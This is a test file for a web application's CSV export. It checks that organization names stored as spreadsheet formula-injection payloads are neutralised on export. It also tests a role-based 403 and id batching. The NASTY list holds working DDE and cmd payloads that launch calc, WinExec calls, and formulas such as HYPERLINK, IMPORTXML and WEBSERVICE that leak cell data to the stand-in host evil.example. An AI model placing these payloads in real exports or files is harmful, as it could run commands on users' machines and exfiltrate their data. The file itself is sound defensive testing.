import { beforeEach, expect, it } from 'vitest'
import { auditLog } from '../../../app/db/schema/audit'
import { users } from '../../../app/db/schema/users'
import { walkIds } from '../../../app/db/engine/sql'
import { searchKey } from '../../../app/domain/names/search-key.server'
import type { Actor } from '../../../app/domain/access'
import { loader as organizations } from '../../../app/routes/organizations/export'
import { loader as users_ } from '../../../app/routes/users/export'
import { parseCsv, withoutApostrophes } from '../../support/csv'
import { emptyTables, openTestDatabase } from '../../support/database'
import { answerOf, visit } from '../../support/requests'
import { testServices, type TestServices } from '../../support/services'
import { before, organization, staff } from '../../support/verifications'

/** Cells that start programs, call the network or break the table when a spreadsheet takes them for more than text. */
const NASTY = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '=cmd|" /C calc"!A0',
  "=cmd|' /C notepad'!'A1'",
  '+cmd|" /C calc"!A0',
  '-cmd|" /C calc"!A0',
  '@cmd|" /C calc"!A0',
  '=DDE("cmd","/C calc","x")',
  '=MSEXCEL|"\\..\\..\\Windows\\System32\\cmd.exe /c calc"!""',
  '=HYPERLINK("https://evil.example?leak="&A1&A2,"Open")',
  '=IMPORTXML(CONCAT("https://evil.example?",CONCATENATE(A2:E2)),"//a")',
  '=IMPORTFEED("https://evil.example/feed")',
  '=IMPORTHTML("https://evil.example","table",1)',
  '=IMPORTRANGE("https://evil.example","A1:B2")',
  '=IMPORTDATA("https://evil.example/x.csv")',
  '=IMAGE("https://evil.example/x.png")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  '=ENCODEURL(A1)',
  '=FILTERXML("<a/>","//a")',
  '=RTD("x","y","z")',
  '=CALL("kernel32","WinExec","JCJ","calc",1)',
  '=REGISTER.ID("kernel32","WinExec")',
  '=EXEC("calc")',
  '=AND(TRUE,FALSE)',
  '=2+5+cmd|" /C calc"!A0',
  '=rundll32|"URL.dll,OpenURL calc.exe"!A',
  '=SUM(1+1)*cmd|" /C calc"!A0',
  '+thespanishinquisition(cmd|" /C calc"!A',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '   +1+1',
  '\u00A0=1+1',
  '\u3000=1+1',
  '\uFF1D1+1',
  '\uFF0B1+1',
  '\uFF0D1+1',
  '\uFF20SUM(1)',
  '"=1+1"',
  '"=1+1',
  '","=1+1',
  '",=1+1,"',
  'a","=cmd|" /C calc"!A0',
  'a\r\n=1+1',
  'a\n=cmd|" /C calc"!A0',
  'a\r=1+1',
  ';=1+1',
  "'=1+1",
  "''=1+1",
  '%0A=1+1',
  '\u200B=1+1',
  '\u202E=1+1',
  '=\u202E1+1',
  '\u0001=1+1',
  '-2+3+cmd|" /C calc"!D2',
  '+7 701 123 45 67',
  '--1',
  '==1',
]
const UNSEEN = '[\\s\\u00A0\\u3000\\uFEFF\\u200B-\\u200F\\u202A-\\u202E\\u0001]*'
const OPENS = new RegExp(`^${UNSEEN}[=+\\-@＝＋－＠\\t\\r]|[;\\t\\r\\n]"*${UNSEEN}[=+\\-@＝＋－＠]`, 'u')

const db = await openTestDatabase()
let services: TestServices
let admin: Actor
beforeEach(async () => {
  await emptyTables(db)
  services = await testServices()
  admin = await staff(db, 'admin', '李伟')
})

it(`${NASTY.length} cells that a spreadsheet would run are stored, exported and read back as text`, async () => {
  for (const [index, name] of NASTY.entries())
    await organization(db, { name, legalName: `x${name}`, status: 'active', createdAt: before(index * 1000) })
  const answer = (await organizations(visit(services, '/organizations/export', { actor: admin }) as never)) as Response
  const bytes = new Uint8Array(await answer.arrayBuffer())
  expect(bytes.slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]))
  const [header, ...rows] = parseCsv(new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes.slice(3)))
  expect(rows).toHaveLength(NASTY.length)
  for (const [index, name] of NASTY.entries()) {
    expect(rows[index]).toHaveLength(header?.length ?? 0)
    const cell = rows[index]?.[0] ?? ''
    expect(withoutApostrophes(cell), JSON.stringify(name)).toBe(withoutApostrophes(name))
    expect(OPENS.test(cell), JSON.stringify(cell)).toBe(false)
    expect(withoutApostrophes(rows[index]?.[1] ?? '')).toBe(withoutApostrophes(`x${name}`))
  }
})

it('an export that the role may not take answers 403 and leaves no audit row', async () => {
  const cashier = await staff(db, 'cashier', 'Daniel Brooks')
  const answer = await answerOf(() => users_(visit(services, '/users/export', { actor: cashier }) as never))
  expect(answer.status).toBe(403)
  expect(await db.$count(auditLog)).toBe(0)
})

it('walking ids in steps of 400 gives each id once, in the order of the query', async () => {
  const rows = Array.from({ length: 1003 }, (_, n) => ({
    username: `P${n}`,
    searchKey: searchKey(`P${n}`),
    phone: `+7799${String(n).padStart(7, '0')}`,
    status: 'active' as const,
    createdAt: before(n * 1000),
  }))
  await db.insert(users).values(rows)
  const query = () => db.select({ id: users.id }).from(users).orderBy(users.createdAt, users.id)
  const steps: number[] = []
  const walked: string[] = []
  await walkIds(
    db,
    query(),
    (ids) => {
      steps.push(ids.length)
      walked.push(...ids)
    },
    400,
  )
  expect(walked).toEqual((await query()).map(({ id }) => id))
  expect(steps).toEqual([400, 400, 204])
})
